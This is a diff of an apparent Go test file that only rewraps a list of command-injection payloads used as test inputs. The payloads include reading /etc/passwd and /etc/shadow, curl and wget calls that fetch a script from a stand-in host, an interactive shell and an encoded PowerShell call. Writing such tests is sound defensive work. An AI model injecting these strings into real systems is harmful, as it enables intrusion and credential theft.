@@ -41,8 +41,10 @@ var harmless = []string{
 }
 
 var commands = []string{
-	";cat /etc/passwd", "127.0.0.1|id", "a && whoami", "`uname -a`", "$(curl b.example)", "x;wget http://b.example/x.sh", "|/bin/cat /etc/shadow",
-	"; /usr/bin/id;", "<?php echo 1;", "/bin/sh -i", "a\nping -c 1 b", "system('id')", "eval(base64_decode('x'))", "..\\cmd.exe /c dir", "& powershell -enc x",
+	";cat /etc/passwd", "127.0.0.1|id", "a && whoami", "`uname -a`", "$(curl b.example)", "x;wget http://b.example/x.sh",
+	"|/bin/cat /etc/shadow",
+	"; /usr/bin/id;", "<?php echo 1;", "/bin/sh -i", "a\nping -c 1 b", "system('id')", "eval(base64_decode('x'))",
+	"..\\cmd.exe /c dir", "& powershell -enc x",
 }
 
 func TestCommands(t *testing.T) {
